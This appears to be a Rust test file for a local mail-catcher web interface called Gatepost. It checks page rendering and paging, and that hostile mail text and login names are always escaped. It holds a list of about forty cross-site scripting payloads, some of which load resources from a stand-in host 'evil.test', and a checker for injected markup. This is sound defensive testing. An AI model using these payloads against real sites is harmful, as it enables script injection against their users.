//! What the pages show, and that mail stays text on them.

use std::fmt::Write as _;

use super::client::get;
use super::site::Site;

#[tokio::test(flavor = "multi_thread")]
async fn the_pages_show_what_there_is() {
    let site = Site::start().await;
    let empty = get(site.http, "/").await;
    assert!(
        empty.text().contains("No mail yet") && empty.text().contains("http-equiv=\"refresh\"")
    );
    assert!(
        get(site.http, "/attempts")
            .await
            .text()
            .contains("Nobody has tried yet")
    );

    let id = site
        .submit(
            "a@example.com",
            "To: Ada <a@example.com>\r\nSubject: =?utf-8?q?gr=C3=BCn?=\r\n\r\nHello & goodbye\r\n",
        )
        .await;
    site.submit("b@example.com", "X: y\r\n\r\n").await;
    let inbox = get(site.http, "/").await;
    for text in [
        "2 messages",
        "<bdi>grün</bdi>",
        "(no subject)",
        "dev@localhost",
        "a@example.com",
        "PLAIN",
        "clear",
        &format!("href=\"/messages/{id}\""),
    ] {
        assert!(inbox.text().contains(text), "{text}: {}", inbox.text());
    }
    let message = get(site.http, &format!("/messages/{id}")).await;
    for text in [
        "<title>grün · Gatepost</title>",
        "Ada &lt;a@example.com&gt;",
        "Hello &amp; goodbye",
        "Message-ID",
        "clear text",
        &id,
    ] {
        assert!(message.text().contains(text), "{text}: {}", message.text());
    }
    assert!(
        !message.text().contains("http-equiv=\"refresh\""),
        "reading is not interrupted"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn long_lists_have_pages() {
    let site = Site::start().await;
    let mut talk = site.server.talk_authenticated().await;
    for number in 0..51 {
        super::site::submit(
            &mut talk,
            "a@example.com",
            &format!("Subject: number {number}.\r\n\r\n"),
        )
        .await;
    }
    let newest = get(site.http, "/").await;
    assert!(
        newest.text().contains("number 50.")
            && newest.text().contains("number 1.")
            && !newest.text().contains("number 0.")
    );
    let (_, behind) = newest.text().split_once("href=\"/?before=").unwrap();
    let older = get(
        site.http,
        &format!("/?before={}", behind.split('"').next().unwrap()),
    )
    .await;
    assert!(older.text().contains("number 0.") && !older.text().contains("number 1."));
    assert!(older.text().contains("Newest") && !older.text().contains("http-equiv=\"refresh\""));
}

/// T-54: whatever a field holds, it is text on every page. `%` stands for a text that is told apart.
const PAYLOADS: &[&str] = &[
    "<script>document.title='%'</script>",
    "<ScRiPt >document.title='%'</sCrIpT>",
    "<script src=//evil.test/%></script>",
    "<img src=x onerror=document.title='%'>",
    "<svg/onload=document.title='%'>",
    "<svg><script>document.title='%'</script></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='%'</script>\">",
    "<iframe src=javascript:parent.document.title='%'>",
    "<body onload=document.title='%'>",
    "<details open ontoggle=document.title='%'>",
    "<input autofocus onfocus=document.title='%'>",
    "<video><source onerror=document.title='%'></video>",
    "<object data=\"data:text/html,<script>document.title='%'</script>\">",
    "<math href=javascript:document.title='%'>x</math>",
    "<meta http-equiv=refresh content=\"0;url=javascript:document.title='%'\">",
    "<base href=http://evil.test/%/>",
    "<link rel=stylesheet href=http://evil.test/%>",
    "<style>@import 'http://evil.test/%';</style>",
    "<form action=http://evil.test/%><button>x",
    "\"><script>document.title='%'</script>",
    "'><script>document.title='%'</script>",
    "\" onmouseover=\"document.title='%'",
    "' autofocus onfocus='document.title=\"%\"",
    "</title><script>document.title='%'</script>",
    "</pre></textarea></style><script>document.title='%'</script>",
    "--><script>document.title='%'</script><!--",
    "<!--<img src=\"--><img src=x onerror=document.title='%'>",
    "]]><script>document.title='%'</script>",
    "&lt;script&gt;document.title='%'&lt;/script&gt;",
    "&#60;script&#62;document.title='%'",
    "javascript:document.title='%'",
    "{{constructor.constructor('document.title=\"%\"')()}}",
    "${document.title='%'}",
    "\u{202e}<script>document.title='%'</script>",
    "<\u{0}script>document.title='%'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='%'>\">",
    "<a href=\"jav&#x09;ascript:document.title='%'\">x</a>",
    "<xss style=animation-name:x onanimationstart=document.title='%'>",
    "<marquee onstart=document.title='%'>",
    "<button popovertarget=x onbeforetoggle=document.title='%'>",
];

/// The payload for a place, as it may stand on one line of a message.
pub(super) fn payloads(place: &str) -> Vec<String> {
    let told_apart =
        |(number, payload): (usize, &&str)| payload.replace('%', &format!("{place}{number}"));
    PAYLOADS.iter().enumerate().map(told_apart).collect()
}

/// A message with a hostile text in its subject, in another header field, in the name of a field's value and in its text.
pub(super) fn hostile_message(payload: &str) -> String {
    let mut subject = String::new();
    for octet in payload.bytes() {
        write!(subject, "={octet:02X}").unwrap();
    }
    let plain = payload.replace('\0', "");
    format!(
        "Subject: =?utf-8?q?{subject}?=\r\nTo: {plain} <a@example.com>\r\nX-<b>Field: {plain}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{plain}\r\n"
    )
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_mail_stays_text() {
    let site = Site::start().await;
    for payload in payloads("x") {
        let id = site
            .submit(
                "\"<img/src=x/onerror=alert(1)>\"@example.com",
                &hostile_message(&payload),
            )
            .await;
        let page = get(site.http, &format!("/messages/{id}")).await;
        let visible = escaped(&payload.replace('\0', "\u{fffd}"));
        let plain = escaped(&payload.replace('\0', ""));
        assert!(
            page.text()
                .contains(&format!("<title>{visible} · Gatepost</title>")),
            "{payload}: {}",
            page.text()
        );
        assert!(
            page.text().contains(&format!("<td>{plain}</td>")),
            "{payload}: {}",
            page.text()
        );
        assert!(
            page.text()
                .contains(&format!("<pre class=\"text\">{plain}")),
            "{payload}: {}",
            page.text()
        );
        let inbox = get(site.http, "/").await;
        assert!(
            inbox.text().contains(&format!("<bdi>{visible}</bdi>")),
            "{payload}"
        );
        for page in [page, inbox] {
            assert!(only_own_markup(page.text()), "{payload}: {}", page.text());
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_stay_text() {
    use base64::Engine as _;
    let site = Site::start().await;
    for payload in payloads("n")
        .into_iter()
        .filter(|payload| !payload.contains('\0'))
    {
        let response = format!("{payload}\0{payload}\0wrong");
        let response = base64::engine::general_purpose::STANDARD.encode(response);
        let mut talk = site.server.talk_legacy().await;
        talk.ask("EHLO client.example", "250 ").await;
        talk.send(format!("AUTH PLAIN {response}\r\n")).await;
        talk.reply().await;
        let page = get(site.http, "/attempts").await;
        assert!(only_own_markup(page.text()), "{payload}: {}", page.text());
    }
    let page = get(site.http, "/attempts").await;
    assert!(
        page.text()
            .contains(&escaped("<script>document.title='n0'</script>")),
        "{}",
        page.text()
    );
}

/// Whether every tag on the page is one that our pages have.
fn only_own_markup(page: &str) -> bool {
    const TAGS: &[&str] = &[
        "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer",
        "section", "article", "div", "span", "p", "a", "img", "h1", "h2", "table", "thead",
        "tbody", "tr", "th", "td", "bdi", "time", "code", "pre", "details", "summary", "dl", "dt",
        "dd", "!DOCTYPE",
    ];
    page.split('<').skip(1).all(|tag| {
        let name = tag
            .trim_start_matches('/')
            .split([' ', '>'])
            .next()
            .unwrap();
        let attributes = tag.split('>').next().unwrap();
        TAGS.contains(&name)
            && !attributes.contains(" on")
            && !attributes.contains("evil")
            && !attributes.contains("javascript")
    })
}
